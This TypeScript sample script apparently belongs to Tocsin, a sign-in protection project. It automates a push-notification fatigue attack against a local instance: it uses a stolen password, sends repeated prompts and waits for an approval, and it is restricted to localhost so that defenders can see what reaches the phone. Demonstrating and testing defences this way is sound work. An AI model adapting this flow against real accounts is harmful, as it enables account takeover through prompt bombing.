/**
 * The sample attacker: has a stolen password and asks for prompt after prompt, as in the published attacks, against a Tocsin on this machine. It shows what
 * reaches the phone, and leaves traces to be found. `node samples/attacker/main.ts --url http://localhost:8787 --name ada@example.com`
 */
import { parseArgs } from 'node:util'

const { values } = parseArgs({
  options: {
    url: { type: 'string', default: 'http://localhost:8787' },
    name: { type: 'string' },
    password: { type: 'string', default: process.env['STOLEN_PASSWORD'] ?? '' },
    rounds: { type: 'string', default: '8' },
    pause: { type: 'string', default: '5' },
    agent: { type: 'string', default: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
  },
})

const url = new URL(values.url)
const { name, password } = values
const rounds = Number(values.rounds)
const pauseMs = Number(values.pause) * 1000
/** A prompt runs out after two minutes. */
const waitMaxMs = 130_000

if (!/^(?:localhost|127(?:\.\d+){3}|\[::1\])$/.test(url.hostname))
  fail('This attacks a Tocsin on this machine only: --url http://localhost:8787.')
if (name === undefined || password === '') fail('Give --name, and the password as --password or in STOLEN_PASSWORD.')
if (!Number.isInteger(rounds) || rounds < 1 || rounds > 100 || !(pauseMs >= 0)) fail('--rounds is 1 to 100, --pause is seconds.')

function fail(why: string): never {
  process.stderr.write(`${why}\n`)
  process.exit(2)
}

/** A browser's worth of cookies: each round is another browser. */
interface Browser {
  readonly cookies: Map<string, string>
  page: string
}

async function ask(browser: Browser, path: string, form?: Readonly<Record<string, string>>): Promise<string> {
  const answer = await fetch(new URL(path, url), {
    method: form === undefined ? 'GET' : 'POST',
    redirect: 'manual',
    headers: {
      'user-agent': values.agent,
      cookie: [...browser.cookies].map(([key, value]) => `${key}=${value}`).join('; '),
      ...(form === undefined ? {} : { 'content-type': 'application/x-www-form-urlencoded', origin: url.origin }),
    },
    ...(form === undefined ? {} : { body: new URLSearchParams(form) }),
  })
  for (const cookie of answer.headers.getSetCookie()) {
    const [, key = '', value = ''] = /^([^=]+)=([^;]*)/.exec(cookie) ?? []
    if (value === '') browser.cookies.delete(key)
    else browser.cookies.set(key, value)
  }
  const to = answer.headers.get('location')
  browser.page = to === null ? await answer.text() : await ask(browser, to)
  return browser.page
}

const send = (browser: Browser, form: Readonly<Record<string, string>>): Promise<string> => {
  const token = /name="token" value="([^"]+)"/.exec(browser.page)?.[1] ?? ''
  return ask(browser, '/signin', { token, ...form })
}

const text = (page: string): string =>
  page
    .replace(/<script[\s\S]*?<\/script>|<style[\s\S]*?<\/style>|<[^>]+>/g, ' ')
    .replace(/&#39;|&#x27;/g, "'")
    .replace(/\s+/g, ' ')
    .trim()

/** The sentence on the page that says what became of it. */
function said(page: string): string {
  const words = [...page.matchAll(/role="(?:alert|status)"[^>]*>([\s\S]*?)<\/(?:p|div)>/g)].map(([, part = '']) => text(part))
  return words.find((one) => one !== '') ?? text(/<main>([\s\S]*?)<\/main>/.exec(page)?.[1] ?? page).slice(0, 200)
}

const isWaiting = (page: string): boolean => page.includes('class="number"') || page.includes('class="scan"')

async function round(): Promise<'sent' | 'withheld' | 'in' | 'no'> {
  const browser: Browser = { cookies: new Map(), page: '' }
  await ask(browser, '/signin')
  await send(browser, { do: 'name', name: name ?? '' })
  await send(browser, { do: 'password', password })
  if (!isWaiting(browser.page) && browser.page.includes('value="push"')) await send(browser, { do: 'choose', offer: 'push' })
  if (!isWaiting(browser.page)) {
    tell(`no prompt: ${said(browser.page)}`)
    return browser.page.includes('value="password"') ? 'no' : 'withheld'
  }
  tell('a prompt went to the phone; waiting for a tired thumb')
  const until = Date.now() + waitMaxMs
  while (isWaiting(browser.page) && Date.now() < until) {
    await sleep(1000)
    await send(browser, { do: 'wait' })
  }
  const isIn = /href="\/account|action="\/account/.test(browser.page) && !browser.page.includes('do=')
  tell(isIn ? 'SIGNED IN' : `over: ${said(browser.page)}`)
  return isIn ? 'in' : 'sent'
}

const tell = (what: string): boolean => process.stdout.write(`${new Date().toISOString().slice(11, 19)}  ${what}\n`)
const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

const counts = { sent: 0, withheld: 0, in: 0, no: 0 }
for (let n = 0; n < rounds; n++) {
  const what = await round()
  counts[what]++
  if (what === 'in' || what === 'no') break
  await sleep(pauseMs)
}
const sent = counts.sent + counts.in
process.stdout.write(
  `\n${sent} ${sent === 1 ? 'prompt' : 'prompts'} reached the phone, ${counts.withheld} were held back, ${counts.in === 0 ? 'nobody got in' : 'the attacker is in'}.\n`,
)
process.exit(counts.in === 0 ? 0 : 1)
